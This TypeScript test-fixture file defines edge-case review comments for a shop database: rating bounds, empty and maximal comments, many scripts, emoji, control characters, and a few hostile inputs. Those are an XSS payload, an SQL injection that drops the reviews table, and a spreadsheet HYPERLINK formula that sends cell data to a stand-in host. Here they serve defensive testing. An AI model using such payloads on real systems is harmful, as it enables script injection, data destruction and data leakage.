import type { Cells, ShopBook, ShopCase } from './shop-case.ts'

const longestComment = 65_535

export const reviewCases: readonly ShopCase[] = [
  review('review-of-lowest-rating', 'The lowest rating that is allowed.', (book) => ({
    rating: book.bounds('reviews', 'rating').min,
  })),
  review('review-of-highest-rating', 'The highest rating that is allowed.', (book) => ({
    rating: book.bounds('reviews', 'rating').max,
  })),
  review('review-without-comment', 'No comment: NULL.', () => ({ comment: null })),
  text('review-with-empty-comment', 'An empty comment, which is not NULL.', ''),
  review(
    'review-with-maximal-comment',
    'The longest comment that the column holds (65,535 letters at the most).',
    (book) => ({
      comment: 'Edge cases are long. '
        .repeat(longestComment / 20)
        .slice(0, book.room('reviews', 'comment', longestComment)),
    }),
  ),
  text('review-in-arabic', 'Written from right to left.', 'حالة حدّية: وصل المنتج بعد 3 أيام (ممتاز!).'),
  text(
    'review-in-hebrew',
    'Right to left, with English and numbers in it.',
    'מקרה קצה: הגיע תוך 3 ימים, model X-200 עובד.',
  ),
  text(
    'review-in-chinese',
    'Chinese characters, one of them outside the basic plane.',
    '邊界測試：產品很好，𠮷野家也用。',
  ),
  text(
    'review-in-japanese',
    'Kanji, kana, half-width kana and full-width digits.',
    '境界テスト：とても良い。ﾊﾝｶｸと１２３。',
  ),
  text('review-in-korean', 'Hangul.', '경계 사례: 아주 좋아요.'),
  text(
    'review-with-emoji',
    'Emoji of several code points: a family, a flag, a skin tone, a keycap.',
    'Edge case 👨‍👩‍👧‍👦 🇺🇳 👍🏽 1️⃣ ❤️‍🔥',
  ),
  text(
    'review-with-combining-marks',
    'Letters under heaps of combining marks.',
    'E\u0301\u0302\u0303d\u0323\u0324g\u0300\u0308e\u0331 c\u0327\u0301a\u0328\u0304s\u0323\u0307e\u0302\u0301',
  ),
  text(
    'review-with-html',
    'HTML and a script, which has to be shown and not run.',
    `<script>alert('edge case')</script><b>bold</b> &amp; <img src=x onerror=alert(1)>`,
  ),
  text('review-with-sql', 'SQL that ends a literal and drops a table.', `'); DROP TABLE reviews; -- edge case`),
  text(
    'review-with-csv-formula',
    'A formula that a spreadsheet would run.',
    `=HYPERLINK("http://edge-case.example/?"&A1,"edge case")`,
  ),
  text(
    'review-with-line-breaks',
    'Line breaks of all systems, tabs and a trailing space.',
    'Edge case\r\nwindows\nunix\rmac\ttab ',
  ),
  text(
    'review-with-invisible-characters',
    'Zero-width space and joiner, soft hyphen, byte-order mark, reversed text.',
    'edge\u200bcase\u200d \u00ad\ufeff \u202eesac egde\u202c',
  ),
]

function text(name: string, description: string, comment: string): ShopCase {
  return review(name, description, () => ({ comment }))
}

function review(name: string, description: string, cells: (book: ShopBook) => Cells): ShopCase {
  return {
    name,
    description,
    make(book) {
      const [user, product] = [book.user(), book.product()]
      const subject = book.review(user, product, cells(book))
      return { rows: [user, product, subject], subject }
    },
  }
}
